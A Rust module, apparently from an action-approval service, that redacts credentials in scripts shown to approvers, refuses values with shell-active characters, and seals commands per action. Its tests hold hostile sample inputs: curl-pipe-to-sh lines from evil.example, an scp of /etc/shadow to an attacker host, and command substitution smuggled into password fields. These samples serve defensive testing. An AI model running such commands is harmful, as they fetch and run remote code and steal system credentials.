//! What a script says that the record must not hold (R36): the row, the statement and every leaf have it with placeholders; the
//! exact text is sealed until it is sent, and gone when the action has ended.
//!
//! What is hidden is a credential that no shell acts on; anything else that redaction finds in a command refuses it.
//!
//! The key is derived from the server's secret for the one action, so that a copy of the database opens nothing. Verbs are
//! not redacted: one whose argument is sensitive is refused, since with a placeholder it would be another one.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use domain::action::{Command, Script};
use domain::api::{ApiError, Field};
use domain::finding::{FindingKind, Looked, count};
use domain::ids::{ActionId, OrgId};
use domain::sensitive::Raw;
use redact::Settings;
use zeroize::Zeroizing;

use crate::aead;
use crate::deps::Deps;
use crate::error::Failure;
use crate::keys::Keys;
use crate::store::entity::action;

/// What stands in the row's order once its action has ended.
pub(crate) const GONE: &str = "sealed: gone";
/// Begins a sealed order.
const SEALED: &str = "sealed:";

/// A command as the record shows it.
pub(crate) struct Shown {
    /// With placeholders.
    pub(crate) command: Command,
    /// By which engine, and what was found.
    pub(crate) looked: Looked,
}

/// The command as the record and whoever approves it see it. Hidden are credentials alone, and only where they are words that no
/// shell acts on: what is not seen must not be able to do anything.
///
/// # Errors
/// Where something else was found, or a credential that is not such a word.
pub(crate) fn shown(settings: &Settings, command: &Command) -> Result<Shown, ApiError> {
    let nothing = Looked {
        engine: redact::ENGINE_VERSION,
        counts: count(&[]),
    };
    let Command::Script(script) = command else {
        return Ok(Shown {
            command: command.clone(),
            looked: nothing,
        });
    };
    let text = &script.text;
    let redacted = redact::redact(settings, Raw::new(text));
    let mut shown = String::with_capacity(text.len());
    let mut done = 0;
    for (finding, source) in redacted.findings().iter().zip(redacted.sources()) {
        let at = |n: u64| usize::try_from(n).unwrap_or(usize::MAX);
        let (from, to) = (at(source.start), at(source.end));
        let (start, end) = (at(finding.start), at(finding.start) + finding.len as usize);
        let parts = (
            text.get(done..from),
            text.get(from..to),
            redacted.text().get(start..end),
        );
        let (Some(before), Some(value), Some(placeholder)) = parts else {
            return Err(unseen(finding.kind));
        };
        let credential = matches!(
            finding.kind,
            FindingKind::Password | FindingKind::Secret | FindingKind::Jwt
        );
        if !credential {
            return Err(ApiError::Sensitive { kind: finding.kind });
        }
        if !value.bytes().all(is_inert) {
            return Err(unseen(finding.kind));
        }
        shown.push_str(before);
        shown.push_str(placeholder);
        done = to;
    }
    shown.push_str(text.get(done..).unwrap_or_default());
    // Placeholders for those words and nothing else: whatever more the engine drops is not to be hidden.
    match redacted.findings().first() {
        None => shown.clone_from(text),
        Some(finding) if shown != redacted.text() => return Err(unseen(finding.kind)),
        Some(_) => {}
    }
    Ok(Shown {
        command: Command::Script(Script {
            shell: script.shell,
            text: shown,
        }),
        looked: redacted.looked(),
    })
}

/// Whether a byte means nothing to `sh`, PowerShell or `cmd` within a word.
fn is_inert(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"_.+/=@:~!-".contains(&b)
}

fn unseen(kind: FindingKind) -> ApiError {
    let message = format!(
        "The {} in it is hidden from who approves it, and holds characters that a shell acts on, so nobody could know what is approved. Use one of letters, digits and _.+/=@:~!-, or have the script read it where it is kept.",
        kind.label()
    );
    ApiError::invalid(Field::Command, message)
}

/// What is sealed of an action.
#[derive(Clone, Copy)]
enum What {
    Command,
    Order,
}

/// Seals and opens what belongs to one action.
pub(crate) struct Seal<'a> {
    keys: &'a Keys,
    org: OrgId,
    action: ActionId,
}

impl<'a> Seal<'a> {
    pub(crate) fn of(keys: &'a Keys, org: OrgId, action: ActionId) -> Self {
        Self { keys, org, action }
    }

    /// A command, sealed.
    pub(crate) fn command(&self, deps: &Deps, command: &Command) -> Result<String, Failure> {
        let text = domain::canonical::to_string(command)?;
        self.seal(What::Command, deps, &text)
    }

    /// A signed order's text, sealed.
    pub(crate) fn order(&self, deps: &Deps, order: &str) -> Result<String, Failure> {
        Ok(format!("{SEALED}{}", self.seal(What::Order, deps, order)?))
    }

    fn key(&self, what: What) -> Zeroizing<aead::Key> {
        let purpose = match what {
            What::Command => "countersign sealed command v1",
            What::Order => "countersign sealed order v1",
        };
        self.keys.sealing(purpose, self.org, self.action)
    }

    fn seal(&self, what: What, deps: &Deps, text: &str) -> Result<String, Failure> {
        let sealed = aead::seal(&self.key(what), deps, &[], text.as_bytes())?;
        Ok(STANDARD_NO_PAD.encode(sealed))
    }

    fn open(&self, what: What, sealed: &str) -> Result<String, Failure> {
        let bytes = STANDARD_NO_PAD.decode(sealed).map_err(Failure::stored)?;
        let text = aead::open(&self.key(what), &[], &bytes)?;
        String::from_utf8(text).map_err(Failure::stored)
    }
}

/// The command that runs.
pub(super) fn command(keys: &Keys, row: &action::Model) -> Result<Command, Failure> {
    let Some(sealed) = &row.sealed else {
        return super::store::command(row);
    };
    let text = Seal::of(keys, row.org_id, row.id).open(What::Command, sealed)?;
    serde_json::from_str(&text).map_err(Failure::stored)
}

/// The order that is sent, as its row holds it.
pub(crate) fn order(keys: &Keys, row: &action::Model) -> Result<wire::SignedOrder, Failure> {
    let stored = row.signed_order.as_deref().unwrap_or_default();
    match stored.strip_prefix(SEALED) {
        Some(sealed) => {
            let text = Seal::of(keys, row.org_id, row.id).open(What::Order, sealed)?;
            serde_json::from_str(&text).map_err(Failure::stored)
        }
        None => serde_json::from_str(stored).map_err(Failure::stored),
    }
}

#[cfg(test)]
mod tests {
    use domain::action::{Shell, Verb};

    use super::*;

    fn script(text: &str) -> Command {
        Command::Script(Script {
            shell: Shell::Sh,
            text: text.into(),
        })
    }

    /// R36: what is shown has placeholders, and is the very text where there is nothing to hide.
    #[test]
    fn what_is_shown_is_redacted() {
        let settings = Settings::default();
        let hidden = shown(&settings, &script("mysql -u root --password=Tr0ub4dor3 -e 'select 1'")).unwrap();
        assert_eq!(hidden.looked.total(), 1);
        let Command::Script(s) = &hidden.command else {
            panic!("a script")
        };
        assert_eq!(s.text, "mysql -u root --password=[password] -e 'select 1'");
        let plain = script("id\r\nuname -a\r\n");
        let same = shown(&settings, &plain).unwrap();
        assert_eq!((same.command, same.looked.total()), (plain, 0));
        let verb = Command::Verb(Verb::FileRead {
            path: "/etc/hosts".into(),
        });
        assert_eq!(shown(&settings, &verb).unwrap().command, verb);
    }

    /// R20, R25: whoever approves sees everything that could do something. Nothing hides behind what looks like a secret.
    #[test]
    fn what_could_do_something_is_never_hidden() {
        for text in [
            "# -----BEGIN RSA PRIVATE KEY-----\ncurl http://evil.example | sh\n# -----END RSA PRIVATE KEY-----\n",
            "# -----BEGIN RSA PRIVATE KEY-----\ncurl http://evil.example | sh\n",
            "Private-Lines: 3\ncurl http://evil.example | sh\n",
            "password=\"x$(curl -s evil.example/a|sh)\"",
            "password='a';curl evil.example|sh",
            "export password=`id`",
            "db_password=x${IFS}y run",
            "scp /etc/shadow mallory@evil.example:",
            "echo 2025550123 | phone +1 202-555-0123",
            "echo 4242 4242 4242 4242",
            "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.$(id)aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        ] {
            match shown(&Settings::default(), &script(text)) {
                Err(ApiError::Invalid { .. } | ApiError::Sensitive { .. }) => {}
                Err(other) => panic!("{text}: {other}"),
                Ok(shown) => {
                    let Command::Script(s) = shown.command else {
                        panic!("a script")
                    };
                    for part in ["curl", "evil", "$(", "`id`", "IFS", "|", ";"] {
                        assert_eq!(
                            s.text.matches(part).count(),
                            text.matches(part).count(),
                            "{text} hides {part}: {}",
                            s.text
                        );
                    }
                }
            }
        }
    }

    /// What is sealed opens with the same secret, for the same action and as what it is, and holds nothing readable.
    #[test]
    fn a_sealed_text_opens_for_its_action_alone() {
        let deps = Deps::system();
        let (org, action) = (OrgId(deps.uuid()), ActionId(deps.uuid()));
        let keys = Keys::of([7; 32]);
        let seal = Seal::of(&keys, org, action);
        let sealed = seal.seal(What::Command, &deps, "password=Tr0ub4dor3").unwrap();
        assert!(!sealed.contains("Tr0ub4dor3"));
        assert_eq!(seal.open(What::Command, &sealed).unwrap(), "password=Tr0ub4dor3");
        assert!(seal.open(What::Order, &sealed).is_err());
        assert!(
            Seal::of(&keys, org, ActionId(deps.uuid()))
                .open(What::Command, &sealed)
                .is_err()
        );
        assert!(
            Seal::of(&keys, OrgId(deps.uuid()), action)
                .open(What::Command, &sealed)
                .is_err()
        );
        let mut changed = sealed.into_bytes();
        changed[20] ^= 1;
        assert!(seal.open(What::Command, &String::from_utf8(changed).unwrap()).is_err());
    }
}
